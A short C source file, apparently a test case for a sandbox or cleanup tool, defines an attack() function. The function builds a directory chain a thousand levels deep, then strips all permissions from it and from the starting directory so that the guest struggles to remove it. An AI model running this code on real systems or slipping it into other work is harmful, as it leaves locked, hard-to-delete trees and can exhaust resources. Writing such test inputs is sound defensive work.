/* Resources: leaves folders in folders, a thousand deep, with modes that let nobody in, for the guest to remove. */
#include "attack.h"

static void attack(void)
{
    const int start = open(".", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 1000 && mkdir("folder", 0777) == 0 && chdir("folder") == 0; i++)
        continue;
    close(open("file", O_WRONLY | O_CREAT, 0));
    (void)!fchdir(start);
    (void)chmod("folder", 0);
    (void)fchmod(start, 0);
    close(start);
}
